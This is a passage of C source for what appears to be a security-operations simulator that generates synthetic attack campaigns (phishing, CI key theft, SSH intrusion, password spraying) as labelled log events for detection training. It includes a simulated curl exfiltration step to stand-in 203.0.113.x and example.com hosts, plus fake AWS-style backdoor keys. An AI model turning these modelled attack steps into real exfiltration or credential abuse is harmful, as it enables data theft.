	sim_ev_sudo(&cs->b, r, c->t, db, u->name, cmd);
	ev(cs, c, c->t, SRC_SYSLOG, NULL, db->fqdn, NULL, NULL);
	gap(cs, c);

	step(cs, c, "exfiltration", "T1048.002", "the dump sent out with curl");
	snprintf(cmd, sizeof cmd, "/upload/%s.bin", c->xd);
	upload(cs, c, db->ip, c->xip, 443, c->xd, cmd, "curl/7.88.1",
	    300000000 + (long long)sim_rng_below(r, 500000000), 1);
}

/* --- the plan ------------------------------------------------------------ */

static void
domain(struct sim_rng *r, const char *const *words, size_t n, char out[64])
{
	static const char *const tld[] = { "example.com", "example.net",
	    "example.org" };
	char hex[5];

	sim_rng_hex(r, hex, 4);
	hex[4] = '\0';
	snprintf(out, 64, "%s-%s.%s", words[sim_rng_below(r, n)], hex,
	    tld[sim_rng_below(r, 3)]);
}

/* A person of the company matching want (0 anyone, 1 with cloud keys and
 * no admin rights, 2 privileged, 3 without MFA), not yet a victim. */
static int
victim(struct sim_campaigns *cs, int want)
{
	const struct sim_org *o = cs->o;
	int tries, i, j;

	for (tries = 0; tries < 4 * (int)o->npeople + 64; tries++) {
		const struct sim_user *u;

		i = (int)sim_rng_below(&cs->r, o->npeople);
		u = &o->users[i];
		if ((want == 1 && (!u->cloud || u->privileged)) ||
		    (want == 2 && !u->privileged) || (want == 3 && u->mfa))
			continue;
		for (j = 0; j < cs->n; j++)
			if (cs->c[j].victim == i)
				break;
		if (j < cs->n && tries < 2 * (int)o->npeople)
			continue;
		return i;
	}
	return (int)sim_rng_below(&cs->r, o->npeople);
}

static int
by_time(const void *a, const void *b)
{
	const struct cev *x = a, *y = b;

	if (x->ms != y->ms)
		return x->ms < y->ms ? -1 : 1;
	return x->seq < y->seq ? -1 : x->seq > y->seq;
}

struct sim_campaigns *
sim_campaigns_plan(const struct sim_org *o, uint64_t seed, int count)
{
	static const char *const c2w[] = { "cdn-update", "jquery-static",
	    "ms-telemetry", "api-metrics", "edge-assets" };
	static const char *const pw[] = { "invoice-portal", "office365-auth",
	    "secure-docs", "sharepoint-files", "docusign-review" };
	static const char *const xw[] = { "files-transfer", "backup-vault",
	    "share-drop", "cloud-archive" };
	static const enum tmpl order[] = { T_PHISH, T_CIKEY, T_SSH, T_SPRAY };
	struct sim_campaigns *cs = soc_xcalloc(1, sizeof(*cs));
	int64_t horizon = o->end - o->start, window;
	int i;

	cs->o = o;
	sim_rng_seed(&cs->r, seed ^ 0x63616d7061696e73ULL);
	soc_buf_init(&cs->b, (size_t)1 << 20);
	cs->c = soc_xcalloc(count > 0 ? (size_t)count : 1, sizeof(*cs->c));
	/* Quiet campaigns spread over days, within the run: at most ten
	 * gaps of scale, and two hours to spare. */
	cs->scale = horizon * 6 / 100;
	if (cs->scale > 10 * SIM_HOUR_MS)
		cs->scale = 10 * SIM_HOUR_MS;
	window = horizon - 10 * cs->scale - 2 * SIM_HOUR_MS;
	if (window < SIM_HOUR_MS)
		window = SIM_HOUR_MS;

	for (i = 0; i < count; i++) {
		struct camp *c = &cs->c[i];

		c->id = i + 1;
		c->tmpl = order[i % T_N];
		/* Alternate loud and quiet, flipping each round of four. */
		c->loud = ((i % T_N) + (i / T_N)) % 2;
		c->actry = 10 + (int)sim_rng_below(&cs->r, 4);
		sim_country_ip(&cs->r, c->actry, c->aip);
		snprintf(c->c2ip, sizeof c->c2ip, "203.0.113.%d", 10 + 4 * i % 240);
		snprintf(c->pip, sizeof c->pip, "203.0.113.%d", 11 + 4 * i % 240);
		snprintf(c->xip, sizeof c->xip, "203.0.113.%d", 12 + 4 * i % 240);
		domain(&cs->r, c2w, 5, c->c2d);
		domain(&cs->r, pw, 5, c->pd);
		domain(&cs->r, xw, 4, c->xd);
		snprintf(c->bucket, sizeof c->bucket, "corp-finance-reports-%s",
		    o->account_prod);
		{
			static const char b32[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
			int k;

			memcpy(c->backdoor_key, "AKIA", 4);
			for (k = 4; k < 20; k++)
				c->backdoor_key[k] = b32[sim_rng_below(&cs->r, 32)];
		}
		c->intel_known = c->loud;
		switch (c->tmpl) {
		case T_PHISH: c->victim = victim(cs, 1); break;
		case T_CIKEY: c->victim = o->svc_deploy; break;
		case T_SSH: c->victim = victim(cs, 2); break;
		default: c->victim = victim(cs, 3); break;
		}
		memcpy(c->key, o->users[c->victim].key, sizeof c->key);
		/* Every third starts while the one before runs. */
		if (i % 3 == 2 && i > 0)
			c->start = cs->c[i - 1].start + SIM_MIN_MS *
			    sim_rng_range(&cs->r, 5, 90);
		else
			c->start = o->start + SIM_HOUR_MS +
			    (int64_t)sim_rng_below(&cs->r, (uint64_t)window);
		if (c->start > o->start + SIM_HOUR_MS + window)
			c->start = o->start + SIM_HOUR_MS + window;
		c->t = c->start;
		cs->n = i + 1;
		switch (c->tmpl) {
		case T_PHISH: phish(cs, c); break;
		case T_CIKEY: cikey(cs, c); break;
		case T_SPRAY: spray(cs, c); break;
		default: ssh(cs, c); break;
		}
	}
	if (cs->nev)	/* --campaigns 0: no events, and qsort takes no NULL */
		qsort(cs->ev, cs->nev, sizeof(*cs->ev), by_time);
	return cs;
}

void
sim_campaigns_minute(struct sim_campaigns *cs, struct sim_out *out, int64_t ms)
{
	while (cs->next < cs->nev && cs->ev[cs->next].ms < ms + SIM_MIN_MS) {
		const struct cev *e = &cs->ev[cs->next];
		struct soc_buf view = { e->line, e->len, e->len + 1, e->len + 1 };

		SOC_ASSERT(e->ms >= ms);
		sim_out_add(out, e->ms, &view, (int)cs->next, e->src);
		cs->next++;
	}
}

static void
json_kv(FILE *fp, const char *key, const char *v)
{
	/* Every value here is the simulator's own: no quote, no backslash. */
	if (v)
		fprintf(fp, ",\"%s\":\"%s\"", key, v);
}

void
sim_campaigns_truth(const struct sim_campaigns *cs, int i, uint64_t line,
    FILE *fp)
{
	const struct cev *e = &cs->ev[i];
	const struct camp *c = &cs->c[e->camp];
	const struct step *s = &c->steps[e->step];
	char t[32];

	sim_time_iso(e->ms, t);
	fprintf(fp, "{\"line\":%llu,\"label\":\"malicious\",\"campaign\":\"C%d\","
	    "\"kind\":\"%s\",\"style\":\"%s\",\"step\":\"%s\",\"step_no\":%d,"
	    "\"tactic\":\"%s\",\"technique\":\"%s\",\"source\":\"%s\","
	    "\"time\":\"%s\",\"expect\":{\"_\":0", (unsigned long long)line,
	    c->id, tmpl_names[c->tmpl], c->loud ? "loud" : "quiet", s->name,
	    e->step + 1, s->tactic, s->technique, sim_src_names[e->src], t);
	json_kv(fp, "user", e->user);
	json_kv(fp, "host", e->host);
	json_kv(fp, "ip", e->ip);
	json_kv(fp, "key", e->key);
	fputs("}}\n", fp);
}

void
sim_campaigns_write(const struct sim_campaigns *cs, FILE *fp)
{
	const struct sim_org *o = cs->o;
	int i, k;

	for (i = 0; i < cs->n; i++) {
		const struct camp *c = &cs->c[i];
		const struct sim_user *u = &o->users[c->victim];
		char t0[32], t1[32];

		sim_time_iso(c->first, t0);
		sim_time_iso(c->last, t1);
		fprintf(fp, "{\"campaign\":\"C%d\",\"kind\":\"%s\",\"style\":\"%s\","
		    "\"first\":\"%s\",\"last\":\"%s\",\"user\":\"%s\",\"host\":\"%s\","
		    "\"attacker_ip\":\"%s\",\"attacker_country\":\"%s\"",
		    c->id, tmpl_names[c->tmpl], c->loud ? "loud" : "quiet", t0, t1,
		    u->name, o->hosts[u->host].fqdn, c->aip,
		    sim_countries[c->actry].iso);
		if (c->tmpl == T_PHISH)
			fprintf(fp, ",\"c2\":\"%s\",\"c2_domain\":\"%s\","
			    "\"phishing_domain\":\"%s\",\"exfil_domain\":\"%s\"",
			    c->c2ip, c->c2d, c->pd, c->xd);
		if (c->tmpl == T_SSH)
			fprintf(fp, ",\"exfil\":\"%s\"", c->xip);
		if (c->key[0])
			fprintf(fp, ",\"access_key\":\"%s\"", c->key);
		if (c->tmpl == T_CIKEY)
			fprintf(fp, ",\"backdoor_key\":\"%s\"", c->backdoor_key);
		fprintf(fp, ",\"intel_known\":%s,\"steps\":[",
		    c->intel_known ? "true" : "false");
		for (k = 0; k < c->nsteps; k++)
			fprintf(fp, "%s{\"step\":\"%s\",\"tactic\":\"%s\","
			    "\"technique\":\"%s\",\"events\":%d}", k ? "," : "",
			    c->steps[k].name, c->steps[k].tactic, c->steps[k].technique,
			    c->steps[k].events);
		fputs("]}\n", fp);
	}
}

size_t
sim_campaigns_intel(const struct sim_campaigns *cs, const char **out,
    size_t max)
{
	size_t n = 0;
	int i;

	for (i = 0; i < cs->n && n + 3 <= max; i++) {
		const struct camp *c = &cs->c[i];

		if (!c->intel_known)
			continue;
		switch (c->tmpl) {
		case T_PHISH:
			out[n++] = c->c2ip;
			out[n++] = c->c2d;
			out[n++] = c->pd;
			break;
		case T_CIKEY:
			out[n++] = c->c2d;
			out[n++] = c->aip;
			break;
		case T_SSH:
		case T_SPRAY:
			out[n++] = c->aip;
			break;
		default:
			break;
		}
	}
	return n;
}

size_t
sim_campaigns_events(const struct sim_campaigns *cs)
{
	return cs->nev;
}

void
sim_campaigns_free(struct sim_campaigns *cs)
{
	size_t i;

	if (!cs)
		return;
	for (i = 0; i < cs->nev; i++)
		free(cs->ev[i].line);
	free(cs->ev);
	free(cs->c);
	soc_buf_release(&cs->b);
	free(cs);
}
